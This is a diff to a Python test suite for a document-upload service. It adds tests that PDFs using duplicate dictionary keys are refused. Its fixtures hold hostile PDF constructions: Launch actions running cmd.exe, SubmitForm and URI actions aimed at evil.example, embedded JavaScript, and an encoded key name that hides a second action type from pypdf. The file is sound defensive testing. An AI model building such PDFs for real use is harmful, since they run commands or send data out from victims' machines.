@@ -11,7 +11,7 @@ from pypdf import PdfWriter
 from pypdf.generic import (ArrayObject, DecodedStreamObject, DictionaryObject, FloatObject, NameObject,
                            TextStringObject)
 
-from applications.demo import minimal_pdf
+from operations.demo import minimal_pdf
 from evidence import services as evidence_services
 from evidence import storage
 from tests.factories import evidence_draft
@@ -503,3 +503,54 @@ def test_p7m_that_is_signed_data_without_signers_is_refused(draft):
         "version": "v1", "digest_algorithms": [], "encap_content_info": {"content_type": "data", "content": b"x" * 1000},
         "signer_infos": []})}).dump()
     refused(draft, "vuoto.p7m", envelope, "busta firmata")
+
+
+# --- duplicate keys (issue 28, finding 9): pypdf keeps the first, PDFium, qpdf and MuPDF act on the last -----
+
+
+def duplicate_key_pdf(*, catalogue: bytes = b"", annotation: bytes = b"/Subtype /Link",
+                      action: bytes = b"/S /GoTo /D [3 0 R /Fit]", packed: bool = False) -> bytes:
+    """A page with a link annotation (object 4) and its action (object 5), written by hand: pypdf's writer
+    cannot produce a dictionary with the same key twice. `packed` puts the annotation and the action in
+    an object stream."""
+    from tests.hostile_pdfs import pdf_with_object_streams
+
+    objects = {
+        1: b"<< /Type /Catalog /Pages 2 0 R " + catalogue + b" >>",
+        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
+        3: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 200 200] /Annots [4 0 R] >>",
+        4: b"<< /Type /Annot " + annotation + b" /Rect [0 0 100 100] /A 5 0 R >>",
+        5: b"<< " + action + b" >>",
+    }
+    return pdf_with_object_streams(objects, packed={4: 10, 5: 10} if packed else None)
+
+
+DUPLICATE_KEYS = {
+    "azione-goto-poi-launch": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /S /Launch /F (cmd.exe)"),
+    "azione-goto-poi-launch-nome-codificato": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /#53 /Launch /F (cmd.exe)"),
+    "azione-in-flusso-di-oggetti": duplicate_key_pdf(action=b"/S /GoTo /D [3 0 R /Fit] /S /SubmitForm /F (https://evil.example/)",
+                                                     packed=True),
+    "annotazione-link-poi-rich-media": duplicate_key_pdf(annotation=b"/Subtype /Link /Subtype /Screen"),
+    "apertura-goto-poi-uri": duplicate_key_pdf(
+        catalogue=b"/OpenAction << /S /GoTo /D [3 0 R /Fit] /S /URI /URI (https://evil.example/traccia) >>"),
+    "apertura-pagina-poi-launch": duplicate_key_pdf(
+        catalogue=b"/OpenAction [3 0 R /Fit] /OpenAction << /S /Launch /F (cmd.exe) >>"),
+    "catalogo-names-vuoto-poi-javascript": duplicate_key_pdf(
+        catalogue=b"/Names << >> /Names << /JavaScript << /Names [(x) << /S /JavaScript /JS (app.alert(1)) >>] >> >>"),
+}
+
+
+@pytest.mark.parametrize("name", DUPLICATE_KEYS)
+def test_a_dictionary_with_a_duplicate_key_is_refused(draft, name):
+    """Whichever value a reader keeps, the file is refused: pypdf alone would see the harmless first one."""
+    from pypdf import PdfReader
+
+    content = DUPLICATE_KEYS[name]
+    assert len(PdfReader(io.BytesIO(content)).pages) == 1  # a readable PDF
+    refused(draft, f"{name}.pdf", content, "chiavi ripetute")
+
+
+def test_the_same_document_without_the_duplicate_key_is_accepted(draft):
+    app, rep, item = draft
+    assert evidence_services.evidence_add(user=rep, application=app, evidence_item=item,
+                                          uploaded_file=SimpleUploadedFile("link.pdf", duplicate_key_pdf(packed=True)))
